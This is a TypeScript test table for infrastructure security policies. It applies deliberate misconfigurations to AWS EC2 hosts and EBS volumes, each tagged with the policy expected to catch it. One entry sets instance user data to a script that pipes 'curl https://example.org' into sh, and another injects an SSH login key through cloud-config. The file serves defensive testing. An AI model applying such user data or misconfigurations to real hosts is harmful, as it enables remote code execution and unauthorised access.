import type { Mutation } from "../support/table.ts";

const address = "aws:ec2/eip:Eip";

/** Machines and their disks. */
export const hosts: readonly Mutation[] = [
  [
    "sender",
    "the host's subnet has a route to the internet",
    ["hosts-stand-apart"],
    (it) =>
      it.edit("aws:ec2/routeTableAssociation:RouteTableAssociation", (props) => {
        props.routeTableId = "sender-public-id";
      }),
  ],
  [
    "sender",
    "the host has a public address",
    ["hosts-are-private"],
    (it) =>
      it.edit("aws:ec2/instance:Instance", (props) => {
        props.associatePublicIpAddress = true;
      }),
  ],
  [
    "sender",
    "an Elastic IP is given to the host",
    ["hosts-are-private"],
    (it) =>
      it.edit(address, (props) => {
        props.instance = "sender-instance-id";
      }),
  ],
  [
    "receiver",
    "subnets give out public addresses",
    ["hosts-are-private"],
    (it) =>
      it.edit("aws:ec2/subnet:Subnet", (props) => {
        props.mapPublicIpOnLaunch = true;
      }),
  ],
  [
    "sender",
    "the metadata service answers without a token",
    ["hosts-use-imds-v2"],
    (it) =>
      it.edit("aws:ec2/instance:Instance", (props) => {
        props.metadataOptions.httpTokens = "optional";
      }),
  ],
  [
    "sender",
    "the metadata service answers over two hops",
    ["hosts-use-imds-v2"],
    (it) =>
      it.edit("aws:ec2/instance:Instance", (props) => {
        props.metadataOptions.httpPutResponseHopLimit = 2;
      }),
  ],
  [
    "sender",
    "a key pair logs in",
    ["no-login"],
    (it) =>
      it.edit("aws:ec2/instance:Instance", (props) => {
        props.keyName = "admin";
      }),
  ],
  [
    "sender",
    "user data lets a key log in",
    ["no-login"],
    (it) =>
      it.edit("aws:ec2/instance:Instance", (props) => {
        props.userDataBase64 = Buffer.from(
          "#cloud-config\nusers:\n  - name: admin\n    ssh_authorized_keys: [ssh-ed25519 AAAA]\n",
        ).toString("base64");
      }),
  ],
  [
    "sender",
    "user data is a script",
    ["no-login"],
    (it) =>
      it.edit("aws:ec2/instance:Instance", (props) => {
        props.userDataBase64 = Buffer.from("#!/bin/sh\ncurl https://example.org | sh\n").toString("base64");
      }),
  ],
  [
    "receiver",
    "the root disk is not encrypted",
    ["disks-are-encrypted"],
    (it) =>
      it.edit("aws:ec2/instance:Instance", (props) => {
        props.rootBlockDevice.encrypted = false;
      }),
  ],
  [
    "receiver",
    "the data volume is not encrypted",
    ["disks-are-encrypted"],
    (it) =>
      it.edit("aws:ebs/volume:Volume", (props) => {
        props.encrypted = false;
      }),
  ],
  [
    "receiver",
    "the data volume is not protected",
    ["data-is-kept"],
    (it) =>
      it.edit("aws:ebs/volume:Volume", (_, resource) => {
        resource.opts = { ...resource.opts, protect: false };
      }),
  ],
];
